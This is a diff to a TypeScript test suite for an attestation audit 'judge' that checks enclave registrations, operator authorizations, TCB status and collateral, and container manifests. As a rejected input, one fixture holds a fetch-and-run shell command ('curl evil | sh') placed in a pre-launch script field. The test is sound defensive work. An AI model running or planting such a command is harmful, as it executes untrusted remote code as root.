@@ -3,17 +3,20 @@ import { expect } from "chai";
 import { bytesToHex, type Hex, hexToBytes, sha256, zeroAddress } from "viem";
 import { privateKeyToAccount } from "viem/accounts";
 import { intelRootKey } from "../../../protocol/deployment.ts";
-import { domainOf, hashGrant, hashReceipt } from "../../../protocol/eip712.ts";
+import { domainOf, hashGrant, hashOperatorAuthorization, hashReceipt } from "../../../protocol/eip712.ts";
 import { splitQuote } from "../../../protocol/quote/parseQuote.ts";
 import {
   type Evidence,
   isMissing,
+  type Position,
   type Registration,
   type RegistrationCall,
+  type RegistrationChange,
   type Settlement,
 } from "../../../sdk/audit/evidence.ts";
 import { gatherEvidence } from "../../../sdk/audit/gather/gatherEvidence.ts";
 import { judge } from "../../../sdk/audit/judge.ts";
+import { testAccount } from "../../support/chain.ts";
 import { type Story, startStory } from "./story.ts";
 
 const other: Hex = `0x${"12".repeat(32)}`;
@@ -154,7 +157,92 @@ describe("judge", () => {
     const storage = (change: object) => live((e) => Object.assign(e.enclaveRecord, change));
     expect(storage({ operator: stranger.address })).to.equal("the registry's storage names another operator");
     expect(storage({ workloadId: other })).to.equal("the registry's storage names another workload");
-    expect(storage({ vaultKeyHash: other })).to.equal("the registry's storage names another vault key");
+    expect(storage({ platformId: other })).to.equal("the registry's storage names another platform");
+    expect(storage({ evidenceHash: other })).to.equal(
+      "the registry's storage names another vault key or platform state",
+    );
+  });
+
+  it("attestation: what became of the registration counts from its position on", () => {
+    const live = (...changes: RegistrationChange[]) =>
+      lineOf("attestation.live", (e) => (e.registration.changes = changes));
+    const { ending, registration } = honest;
+    const [before, after] = [ending.block.number - 1n, ending.block.number + 1n].map((number) => ({
+      block: { ...ending.block, number },
+      logIndex: 0,
+    })) as [Position, Position];
+    const { tcb, tcbStatus } = registration;
+    const renewed = { how: "renewed", tcbStatus, tcb } as const;
+    const { timestamp } = ending.block;
+    expect(live({ ...after, how: "retired" })).to.match(/^verified/);
+    expect(live({ ...before, how: "retired" })).to.equal("not verified: it had been retired");
+    expect(live({ ...before, how: "demoted", tcbStatus: 5 })).to.equal("not verified: it had been demoted");
+    expect(live({ ...before, ...renewed, expiresAt: timestamp })).to.equal("not verified: it had expired");
+    expect(live({ ...before, ...renewed, expiresAt: timestamp + 1n })).to.match(/^verified/);
+    const expired = (e: Whole) => (e.registration.expiresAt = timestamp);
+    const saved = (e: Whole) => (e.registration.changes = [{ ...after, ...renewed, expiresAt: timestamp + 99n }]);
+    expect(lineOf("attestation.live", (e) => [expired(e), saved(e)])).to.equal("not verified: it had expired");
+    const otherTcb = { ...tcb, qeIsvSvn: tcb.qeIsvSvn + 1 };
+    expect(live({ ...after, ...renewed, tcb: otherTcb, expiresAt: timestamp + 99n })).to.match(/another vault key or/);
+  });
+
+  it("attestation: the operator sent the registration, signed for who did, or its contract says so", async () => {
+    const operator = (change: (call: RegistrationCall) => void) =>
+      lineOf("attestation.operator", (e) => change(e.registration.call));
+    expect(operator(() => {})).to.equal("verified: it sent the registration itself");
+    const neither = "not verified: neither did it send the registration, nor sign the authorization";
+    const validUntil = 2n ** 40n;
+    const sentBy = (signature: Hex, changes: Partial<RegistrationCall> = {}, until = validUntil) =>
+      operator((call) => {
+        const authorization = { validUntil: until, signature };
+        Object.assign(call, { sender: stranger.address, authorization, ...changes });
+      });
+    expect(sentBy("0x")).to.equal(neither);
+    const { chainId, contracts } = honest.deployment;
+    const hash = hashOperatorAuthorization(domainOf(chainId, contracts.enclaveRegistry), {
+      operator: honest.registration.call.operator,
+      agent: stranger.address,
+      validUntil,
+    });
+    const signed = await testAccount(4).sign({ hash });
+    expect(sentBy(signed)).to.equal(`verified: it signed that ${stranger.address} registers enclaves in its name`);
+    expect(sentBy(signed, {}, validUntil - 1n)).to.equal(neither);
+    expect(sentBy(signed, {}, 1n)).to.match(/^not verified: its authorization had run out/);
+    expect(sentBy("0x", { contractAccepts: true })).to.match(/^verified: its contract/);
+    const missing = { missing: "nobody was asked" };
+    expect(sentBy("0x", { contractAccepts: missing })).to.equal("cannot be verified: nobody was asked");
+  });
+
+  it("attestation: the patch level by the chain's word, and anew by the collateral that the chain had", () => {
+    const tcb = (change: (e: Whole) => void) => lineOf("attestation.tcb", change);
+    expect(tcb(() => {})).to.match(/^verified: UpToDate when registered, judged anew/);
+    for (const [status, name] of [
+      [0, "Unsupported"],
+      [5, "OutOfDate"],
+      [7, "Revoked"],
+      [99, "Unsupported"],
+    ] as const)
+      expect(tcb((e) => (e.registration.tcbStatus = status))).to.equal(
+        `not verified: the chain recorded ${name}; the deployment allows UpToDate, SWHardeningNeeded`,
+      );
+    expect(tcb((e) => (e.registration.tcbStatus = 2))).to.equal(
+      "not verified: the chain recorded SWHardeningNeeded, judged anew it was UpToDate",
+    );
+    const missing = { missing: "some collateral does not show" };
+    expect(tcb((e) => (e.registration.collateral = missing))).to.equal(
+      "verified: the chain recorded UpToDate; not judged anew: some collateral does not show",
+    );
+    const now = Number(honest.registration.block.timestamp) - 60;
+    const recovery = story.platform.collateral({ now, statuses: { platform: "OutOfDate" } });
+    expect(tcb((e) => (e.registration.collateral = recovery))).to.match(
+      /^not verified: judged anew: .*TCB policy: OutOfDate;/,
+    );
+    const forged = { ...story.platform.collateral({ now }), tcbInfo: recovery.tcbInfo };
+    expect(tcb((e) => (e.registration.collateral = forged))).to.match(
+      /^not verified: judged anew: .*TCB info signature/,
+    );
+    const revoked = story.platform.collateral({ now, revoked: { leaves: [story.platform.serials.pckLeaf] } });
+    expect(tcb((e) => (e.registration.collateral = revoked))).to.match(/^not verified: judged anew: .*revoked/);
   });
 
   it("attestation: genuine hardware only under Intel's root key", () => {
@@ -163,17 +251,17 @@ describe("judge", () => {
     expect(lineOf("attestation.genuine", (e) => (e.deployment.rootKey = intelRootKey))).to.equal(
       "not verified: Quote refused, issuer signature: not valid.",
     );
-    expect(lineOf("attestation.tcb", (e) => (e.registration.tcbStatus = 1))).to.match(
-      /^cannot be verified: the chain recorded/,
-    );
   });
 
   it("code: scripts, unknown fields, variables of the host, public logs, loose images", () => {
     const line = (id: string, change: object) => lineOf(id, withCompose(change));
     expect(line("code.compose", {})).to.match(/^verified/);
-    const refused = /^not verified: The app-compose manifest is not one that can be judged: .*Unrecognized key/;
-    expect(line("code.launch", { pre_launch_script: "curl evil | sh" })).to.match(refused);
-    expect(line("code.launch", { init_script: "x" })).to.match(refused);
+    expect(line("code.launch", { pre_launch_script: "curl evil | sh", init_script: "x" })).to.equal(
+      "not verified: the manifest runs init_script, pre_launch_script as root",
+    );
+    expect(line("code.launch", { bash_script: "x" })).to.equal(
+      "not verified: the manifest has unknown fields: bash_script",
+    );
     expect(line("code.launch", { allowed_envs: ["RPC_URL", "NODE_OPTIONS"] })).to.equal(
       "not verified: the host may set NODE_OPTIONS",
     );
